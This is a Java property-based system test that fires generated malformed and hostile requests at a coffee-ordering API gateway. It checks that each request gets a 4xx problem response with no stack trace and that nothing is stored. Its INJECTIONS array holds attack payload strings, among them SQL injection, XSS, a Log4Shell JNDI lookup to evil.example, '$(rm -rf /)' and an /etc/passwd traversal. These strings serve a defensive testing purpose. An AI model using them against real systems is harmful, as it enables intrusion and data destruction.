package dev.brew.system;

import com.fasterxml.jackson.databind.JsonNode;
import dev.brew.system.support.Brew;
import dev.brew.system.support.Gateway;
import dev.brew.system.support.OrderLoad;
import dev.brew.system.support.Response;
import dev.brew.system.support.Session;
import dev.brew.system.support.SharedStack;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Bad input as properties, through the gateway against the real stack: generated hostile requests against every
 * call (wrong types, missing and extra fields, huge bodies and strings, Unicode and control characters, negative and
 * overflowing numbers, duplicate keys, wrong content types, broken JSON, injection-looking strings). Every answer is
 * a 4xx problem body — never a 5xx, never a stack trace — and nothing is stored for it. Tries per property come from
 * {@code jqwik.tries.default} (CI: 40; {@code -Pchaos}: 1,700, over 10,000 in all).
 */
class HostileInputPropertiesTest {

    private static final String[] INJECTIONS = {
            "'; DROP TABLE domain_event_entry; --", "\" OR \"1\"=\"1", "{\"$ne\": null}", "{\"$where\": \"sleep(1000)\"}",
            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "#{7*7}", "../../etc/passwd",
            "%00", "\\u0000", "Robert'); DELETE FROM member_directory;--", "$(rm -rf /)", "`id`", "*)(uid=*))"};

    private static Brew brew;
    private static Gateway gateway;
    private static Session member;
    private static Session barista;
    private static Session operator;
    private static List<String> menu;
    private static final AtomicInteger cases = new AtomicInteger();

    @BeforeContainer
    static void stack() {
        brew = SharedStack.get();
        gateway = brew.gateway();
        brew.awaitSettled(Duration.ofSeconds(180));
        member = gateway.newMember("hostile");
        barista = brew.barista();
        operator = brew.operator();
        menu = gateway.menuCodes();
    }

    @AfterContainer
    static void report() {
        System.out.printf("[system-tests] hostile requests sent: %d, every one a 4xx problem, nothing stored%n",
                cases.get());
    }

    // ---- the answer every hostile request must get ------------------------------------------------------------

    private static void assertRefused(String what, Response answer) {
        cases.incrementAndGet();
        assertThat(answer.status()).as("%s → %s", what, answer).isBetween(400, 499);
        assertThat(answer.contentType()).as("%s: a problem body → %s", what, answer)
                .startsWith("application/problem+json");
        JsonNode problem = answer.json();
        assertThat(problem.path("status").asInt()).as("%s: problem status", what).isEqualTo(answer.status());
        assertThat(answer.body()).as("%s: no stack trace", what)
                .doesNotContain("\tat ", ".java:", "Exception:", "Caused by", "org.springframework.",
                        "org.axonframework.", "org.postgresql");
    }

    // ---- POST /api/orders --------------------------------------------------------------------------------------

    @Property(shrinking = ShrinkingMode.OFF)
    void hostileOrderBodiesAreRefusedAndNothingIsStored(@ForAll("hostileOrderBodies") String body) {
        String key = "hostile-" + UUID.randomUUID();
        Response answer = gateway.placeOrder(member, key, body);
        assertRefused("POST /api/orders " + abbreviate(body), answer);
        assertNotStored(key);
    }

    @Property(shrinking = ShrinkingMode.OFF)
    void hostileHeadersAreRefusedAndNothingIsStored(@ForAll("hostileKeys") String key,
                                                    @ForAll("contentTypes") String contentType) {
        String body = Gateway.orderBody(menu, key.length());
        var request = gateway.request("/api/orders", member)
                .POST(java.net.http.HttpRequest.BodyPublishers.ofString(body));
        if (!contentType.isEmpty()) {
            request.header("Content-Type", contentType);
        }
        String sent = key.equals("<none>") ? null : sanitizeHeader(key);
        boolean validKey = sent != null && sent.length() <= 128 && !sent.isEmpty()
                && sent.chars().allMatch(c -> c >= 0x21 && c <= 0x7e);
        if (sent != null) {
            request.header("Idempotency-Key", sent);
        }
        boolean validContentType = contentType.equals("application/json");
        if (validKey && validContentType) {
            return; // not hostile: the generators aim at one or the other
        }
        Response answer = gateway.send(request.build());
        assertRefused("POST /api/orders key=" + abbreviate(key) + " content-type=" + contentType, answer);
        if (validKey) {
            assertNotStored(sent);
        }
    }

    private static void assertNotStored(String key) {
        assertThat(brew.eventStore().existing(List.of(OrderLoad.orderIdOf(member.memberId(), key))))
                .as("stored for key %s", key).isEmpty();
    }

    @Provide
    Arbitrary<String> hostileOrderBodies() {
        Arbitrary<String> code = Arbitraries.of(menu);
        Arbitrary<String> validLine = Combinators.combine(code, Arbitraries.integers().between(1, 20))
                .as((c, q) -> "{\"menuCode\":\"" + c + "\",\"quantity\":" + q + "}");
        Arbitrary<String> validBody = validLine.list().ofMinSize(1).ofMaxSize(3)
                .map(lines -> "{\"items\":[" + String.join(",", lines) + "]}");
        Arbitrary<String> notAMenuCode = Arbitraries.oneOf(
                Arbitraries.strings().all().ofMinLength(1).ofMaxLength(64),
                Arbitraries.of(INJECTIONS),
                Arbitraries.strings().withChars('\u0000', '\u001f', '\u007f', '\u202e', '\u200b', '\ufeff', '\ud83d')
                        .ofMinLength(1).ofMaxLength(10),
                Arbitraries.of("ＡＭＥＲＩＣＡＮＯ", "americano ", " AMERICANO", "AMERICANO\n", "Ａ"))
                .filter(c -> !menu.contains(c));
        Arbitrary<String> badNumber = Arbitraries.oneOf(
                Arbitraries.integers().lessOrEqual(0).map(String::valueOf),
                Arbitraries.integers().greaterOrEqual(21).map(String::valueOf),
                Arbitraries.of("2147483648", "-2147483649", "9223372036854775808", "1e400", "-0.5", "1.5", "1e1",
                        "0x10", "NaN", "Infinity", "\"1\"", "true", "null", "[]", "{}", "01"));
        Arbitrary<String> wrongType = Arbitraries.of("1", "true", "\"text\"", "{}", "[1]", "null", "-1.5");
        return Arbitraries.oneOf(
                // wrong types and shapes
                wrongType.map(v -> "{\"items\":" + (v.equals("[1]") ? "[1]" : v) + "}"),
                Combinators.combine(wrongType, Arbitraries.integers().between(1, 20))
                        .as((v, q) -> "{\"items\":[{\"menuCode\":" + v + ",\"quantity\":" + q + "}]}"),
                Combinators.combine(code, badNumber)
                        .as((c, n) -> "{\"items\":[{\"menuCode\":\"" + c + "\",\"quantity\":" + n + "}]}"),
                Arbitraries.of("[]", "\"items\"", "42", "null", "true", "{}", "{\"items\":[]}", "{\"items\":[{}]}",
                        "{\"items\":[{\"quantity\":1}]}", "{\"items\":[{\"menuCode\":\"AMERICANO\"}]}"),
                // unknown and hostile menu codes, Unicode and control characters (properly JSON-escaped)
                Combinators.combine(notAMenuCode, Arbitraries.integers().between(1, 20))
                        .as((c, q) -> "{\"items\":[{\"menuCode\":" + Gateway.json(c) + ",\"quantity\":" + q + "}]}"),
                // extra fields: the member never comes from the body; prices are not the caller's
                validBody.map(b -> b.substring(0, b.length() - 1) + ",\"memberId\":\"" + UUID.randomUUID() + "\"}"),
                validBody.map(b -> b.replaceFirst("\\}", ",\"unitPrice\":0}")),
                validBody.map(b -> b.substring(0, b.length() - 1) + ",\"status\":\"DONE\"}"),
                // duplicate keys
                validBody.map(b -> "{\"items\":" + b.substring(9, b.length() - 1) + ",\"items\":[]}"),
                validLine.map(l -> "{\"items\":[" + l.replace("}", ",\"quantity\":2}") + "]}"),
                // too many lines, huge strings and bodies
                validLine.list().ofMinSize(51).ofMaxSize(80).map(lines -> "{\"items\":[" + String.join(",", lines)
                        + "]}"),
                Arbitraries.integers().between(65, 5_000).map(n -> "{\"items\":[{\"menuCode\":\"" + "A".repeat(n)
                        + "\",\"quantity\":1}]}"),
                Arbitraries.integers().between(70_000, 200_000).map(n -> "{\"items\":[{\"menuCode\":\""
                        + "B".repeat(n) + "\",\"quantity\":1}]}"),
                // broken JSON
                validBody.map(b -> b.substring(0, Math.max(1, b.length() / 2))),
                validBody.map(b -> b + "}"),
                validBody.map(b -> b + " trailing"),
                validBody.map(b -> b.replace('"', '\'')),
                validBody.map(b -> b.replace(":", "=")),
                Arbitraries.of("", " ", "{", "}", "[", "nul", "{\"items\":[{\"menuCode\":\"AMERICANO\",\"quantity\":1,}]}",
                        "{\"items\":[{\"menuCode\":\"AMERICANO\" \"quantity\":1}]}", "\u0000\u0001", "<xml/>",
                        "items=AMERICANO&quantity=1"),
                Arbitraries.strings().all().ofMaxLength(200).filter(s -> !s.trim().startsWith("{")));
    }

    @Provide
    Arbitrary<String> hostileKeys() {
        return Arbitraries.oneOf(
                Arbitraries.of("<none>", " ", "a b", "ключ", "key\u007f", "\t"),
                Arbitraries.strings().ascii().ofMinLength(129).ofMaxLength(2_000)
                        .map(s -> s.replaceAll("[^\\x21-\\x7e]", "x")),
                Arbitraries.strings().withCharRange('\u0080', '\u00ff').ofMinLength(1).ofMaxLength(20),
                Arbitraries.strings().withCharRange('\u0021', '\u007e').ofMinLength(1).ofMaxLength(128));
    }

    @Provide
    Arbitrary<String> contentTypes() {
        return Arbitraries.of("application/json", "", "text/plain", "application/xml", "text/html",
                "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/octet-stream",
                "image/png", "*/*; q=x", "application/", "json");
    }

    // ---- POST /api/members and POST /api/sessions -------------------------------------------------------------

    @Property(shrinking = ShrinkingMode.OFF)
    void hostileSignUpsAreRefusedAndNothingIsStored(@ForAll("hostileMemberBodies") String body) {
        long before = brew.memberStore().count();
        Response answer = gateway.post("/api/members", null, body, Map.of());
        assertRefused("POST /api/members " + abbreviate(body), answer);
        assertThat(brew.memberStore().count()).as("members after %s", abbreviate(body)).isEqualTo(before);
    }

    @Property(shrinking = ShrinkingMode.OFF)
    void hostileSignInsAreRefused(@ForAll("malformedMemberBodies") String body) {
        Response answer = gateway.post("/api/sessions", null, body, Map.of());
        assertRefused("POST /api/sessions " + abbreviate(body), answer);
        assertThat(answer.headers().allValues("Set-Cookie")).as("no session for a refused sign-in").isEmpty();
    }

    /** Valid-looking names that stay names: stored and shown back verbatim, never interpreted. */
    @Property(shrinking = ShrinkingMode.OFF, tries = 20)
    void injectionLookingNamesAreJustNames(@ForAll("injectionNames") String name) {
        Response signedUp = gateway.signUp(name, Gateway.PASSWORD);
        cases.incrementAndGet();
        assertThat(signedUp.status()).as("sign-up of %s → %s", name, signedUp).isIn(201, 409, 422);
        if (signedUp.status() == 201) {
            Session named = gateway.session(name, Gateway.PASSWORD);
            assertThat(gateway.get("/api/members/me", named).json().path("name").asText()).isEqualTo(name.trim());
            String orderId = gateway.placeOrder(named);
            assertThat(brew.eventStore().existing(List.of(orderId))).containsExactly(orderId);
        } else {
            assertRefused("POST /api/members " + name, signedUp);
        }
    }

    @Provide
    Arbitrary<String> injectionNames() {
        return Arbitraries.oneOf(Arbitraries.of(INJECTIONS).filter(s -> s.codePointCount(0, s.length()) <= 40),
                Arbitraries.of(INJECTIONS).map(s -> s.substring(0, Math.min(s.length(), 30)) + " "
                        + Integer.toString((int) (Math.random() * 1e6), 36)));
    }

    /**
     * Sign-in bodies that are malformed (so they never reach the password check): well-formed wrong credentials
     * would spend member-service's per-address failure budget, which all of these tests share through the one
     * gateway address, and lock the barista out — that throttle is member-service's own test's business.
     */
    @Provide
    Arbitrary<String> malformedMemberBodies() {
        Arbitrary<String> name = Arbitraries.strings().alpha().ofMinLength(3).ofMaxLength(20)
                .map(n -> "hostile-" + n);
        Arbitrary<String> wrongType = Arbitraries.of("1", "true", "{}", "[]", "null", "1.5", "[\"a\"]");
        return Arbitraries.oneOf(
                Combinators.combine(wrongType, name)
                        .as((t, n) -> "{\"name\":" + t + ",\"password\":\"" + Gateway.PASSWORD + "\"}"),
                Combinators.combine(name, wrongType).as((n, t) -> "{\"name\":\"" + n + "\",\"password\":" + t + "}"),
                name.map(n -> "{\"name\":\"" + n + "\"}"),
                Arbitraries.just("{\"password\":\"" + Gateway.PASSWORD + "\"}"),
                name.map(n -> "{\"name\":\"" + n + "\",\"password\":\"" + Gateway.PASSWORD + "\",\"token\":\"x\"}"),
                name.map(n -> "{\"name\":\"" + n + "\",\"name\":\"" + n + "x\",\"password\":\"" + Gateway.PASSWORD
                        + "\"}"),
                name.map(n -> "{\"name\":\"" + n + "\",\"password\":\"" + Gateway.PASSWORD),
                Arbitraries.integers().between(70_000, 150_000).map(n -> "{\"name\":\"" + "n".repeat(n)
                        + "\",\"password\":\"" + Gateway.PASSWORD + "\"}"),
                Arbitraries.of("", "{", "[]", "null", "\"x\"", "name=a&password=b", "{'name':'a','password':'b'}"),
                Arbitraries.strings().all().ofMaxLength(200).filter(s -> !s.trim().startsWith("{")));
    }

    @Provide
    Arbitrary<String> hostileMemberBodies() {
        Arbitrary<String> name = Arbitraries.strings().alpha().ofMinLength(3).ofMaxLength(20)
                .map(n -> "hostile-" + n);
        Arbitrary<String> badName = Arbitraries.oneOf(
                Arbitraries.just(""), Arbitraries.just("   "),
                Arbitraries.strings().alpha().ofMinLength(41).ofMaxLength(5_000),
                Arbitraries.strings().withChars('\u0000', '\u0007', '\u001b', '\u007f', '\u2028', '\u202e', '\ue000')
                        .ofMinLength(1).ofMaxLength(5)
                        // Whitespace alone (U+2028) at the end is trimmed like a space, leaving a valid name.
                        .filter(c -> !c.isBlank()).map(c -> "name" + c),
                Arbitraries.of("barista", "OPERATOR", "Ｂａｒｉｓｔａ"));
        Arbitrary<String> badPassword = Arbitraries.oneOf(
                Arbitraries.strings().ofMaxLength(7),
                Arbitraries.strings().alpha().ofMinLength(73).ofMaxLength(10_000),
                Arbitraries.strings().withChars('é', '한').ofMinLength(37).ofMaxLength(100));
        Arbitrary<String> wrongType = Arbitraries.of("1", "true", "{}", "[]", "null", "1.5", "[\"a\"]");
        return Arbitraries.oneOf(
                Combinators.combine(badName, Arbitraries.of(Gateway.PASSWORD))
                        .as((n, p) -> Gateway.json(Map.of("name", n, "password", p))),
                Combinators.combine(name, badPassword).as((n, p) -> Gateway.json(Map.of("name", n, "password", p))),
                Combinators.combine(Arbitraries.of(INJECTIONS), badPassword)
                        .as((n, p) -> Gateway.json(Map.of("name", n, "password", p))),
                Combinators.combine(wrongType, name)
                        .as((t, n) -> "{\"name\":" + t + ",\"password\":\"" + Gateway.PASSWORD + "\"}"),
                Combinators.combine(name, wrongType).as((n, t) -> "{\"name\":\"" + n + "\",\"password\":" + t + "}"),
                name.map(n -> "{\"name\":\"" + n + "\"}"),
                Arbitraries.just("{\"password\":\"" + Gateway.PASSWORD + "\"}"),
                name.map(n -> "{\"name\":\"" + n + "\",\"password\":\"" + Gateway.PASSWORD
                        + "\",\"roles\":[\"BARISTA\"]}"),
                name.map(n -> "{\"name\":\"" + n + "\",\"password\":\"" + Gateway.PASSWORD + "\",\"id\":\"x\"}"),
                name.map(n -> "{\"name\":\"" + n + "\",\"name\":\"" + n + "x\",\"password\":\"" + Gateway.PASSWORD
                        + "\"}"),
                name.map(n -> "{\"name\":\"" + n + "\",\"password\":\"" + Gateway.PASSWORD),
                Arbitraries.integers().between(70_000, 150_000).map(n -> "{\"name\":\"" + "n".repeat(n)
                        + "\",\"password\":\"" + Gateway.PASSWORD + "\"}"),
                Arbitraries.of("", "{", "[]", "null", "\"x\"", "name=a&password=b", "{'name':'a','password':'b'}"),
                Arbitraries.strings().all().ofMaxLength(200).filter(s -> !s.trim().startsWith("{")));
    }

    // ---- complete, cancel, queries, members, replays: hostile ids and parameters -------------------------------

    @Property(shrinking = ShrinkingMode.OFF)
    void hostileIdsAndCancelBodiesChangeNothing(@ForAll("hostileIds") String id,
                                                @ForAll("hostileCancelBodies") String cancelBody) {
        String path = "/api/orders/" + encodePath(id);
        assertRefused("complete " + abbreviate(id), gateway.post(path + "/complete", barista, "", Map.of()));
        assertRefused("cancel " + abbreviate(id), gateway.post(path + "/cancel", member, "", Map.of()));
        assertRefused("GET order " + abbreviate(id), gateway.get(path, barista));
        assertRefused("GET member " + abbreviate(id), gateway.get("/api/members/" + encodePath(id), barista));
        assertRefused("GET replay " + abbreviate(id), gateway.get("/api/admin/replays/" + encodePath(id), operator));
        // A real, open order of the member: a hostile cancel body leaves it open.
        String open = gateway.placeOrder(member);
        assertRefused("cancel body " + abbreviate(cancelBody),
                gateway.post("/api/orders/" + open + "/cancel", member, cancelBody, Map.of()));
        assertThat(brew.eventStore().eventsOf(List.of(open)).get(open)).as("events of %s", open)
                .isEqualTo(Map.of("OrderPlaced", 1));
        gateway.cancel(member, open); // keeps the barista queue short
    }

    @Provide
    Arbitrary<String> hostileIds() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMinLength(1).ofMaxLength(100),
                Arbitraries.of(INJECTIONS),
                Arbitraries.of("00000000-0000-0000-0000-000000000000", UUID.randomUUID().toString(),
                        UUID.randomUUID().toString().toUpperCase(), "..", "%2e%2e", "null", "-1",
                        "99999999999999999999", "ffffffff-ffff-ffff-ffff-ffffffffffffff"),
                Arbitraries.strings().alpha().ofMinLength(2_000).ofMaxLength(4_000));
    }

    @Provide
    Arbitrary<String> hostileCancelBodies() {
        return Arbitraries.oneOf(
                Arbitraries.of("{\"reason\":1}", "{\"reason\":true}", "{\"reason\":{}}", "{\"reason\":[]}",
                        "{\"why\":\"x\"}", "{\"reason\":\"a\",\"reason\":\"b\"}", "{", "[]", "\"x\"", "{\"reason\":}",
                        "{\"reason\":\"x\",\"status\":\"DONE\"}"),
                Arbitraries.integers().between(70_000, 120_000).map(n -> "{\"reason\":\"" + "r".repeat(n) + "\"}"));
    }

    @Property(shrinking = ShrinkingMode.OFF)
    void hostileQueryParametersAreRefused(@ForAll("hostileQueries") String query) {
        assertRefused("GET /api/orders?" + abbreviate(query), gateway.get("/api/orders?" + query, barista));
        String mine = query.startsWith("status=ORDERED&") ? query.substring("status=ORDERED&".length()) : null;
        if (mine != null) {
            assertRefused("GET /api/orders/mine?" + abbreviate(mine), gateway.get("/api/orders/mine?" + mine,
                    member));
        }
    }

    @Provide
    Arbitrary<String> hostileQueries() {
        Arbitrary<String> badNumber = Arbitraries.oneOf(
                Arbitraries.integers().lessOrEqual(-1).map(String::valueOf),
                Arbitraries.of("abc", "1.5", "2147483648", "-2147483649", "99999999999999999999", "1e3", "%00",
                        "NaN", "0x1", "%20"));
        Arbitrary<String> badSize = Arbitraries.oneOf(badNumber, Arbitraries.of("0", "101", "100000"));
        return Arbitraries.oneOf(
                badNumber.map(n -> "status=ORDERED&page=" + n),
                badSize.map(n -> "status=ORDERED&size=" + n),
                Arbitraries.integers().between(10_001, Integer.MAX_VALUE).map(n -> "status=ORDERED&page=" + n),
                Arbitraries.strings().all().ofMinLength(1).ofMaxLength(40)
                        .filter(s -> !List.of("ORDERED", "ACCEPTED", "READY", "PICKED_UP", "REJECTED", "CANCELLED",
                                "EXPIRED").contains(s.strip()))
                        .map(s -> "status=" + URLEncoder.encode(s, StandardCharsets.UTF_8)),
                Arbitraries.of(INJECTIONS).map(s -> "status=" + URLEncoder.encode(s, StandardCharsets.UTF_8)),
                Arbitraries.of("status=ordered", "status=0", "status=", "status=ORDERED&status=DONE&page=-1"));
    }

    // ---- helpers -----------------------------------------------------------------------------------------------

    /** A path segment that is at least a valid URI (the hostility is in what it says, not in breaking the client). */
    private static String encodePath(String id) {
        return URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /**
     * What the JDK client really puts on the wire: it refuses control characters (but tab) and writes header values
     * as US-ASCII, so every other character becomes {@code ?}. (Raw non-ASCII header bytes are the gateway's own test:
     * {@code EdgeProtectionTest} sends them on a socket and gets a 400 problem.)
     */
    private static String sanitizeHeader(String value) {
        StringBuilder sendable = new StringBuilder();
        value.chars().forEach(c -> sendable.append((c < 0x20 && c != '\t') || c >= 0x7f ? '?' : (char) c));
        return sendable.toString();
    }

    private static String abbreviate(String text) {
        String shown = text.length() > 120 ? text.substring(0, 120) + "…(" + text.length() + " chars)" : text;
        return shown.replaceAll("\\p{Cntrl}", "?");
    }
}
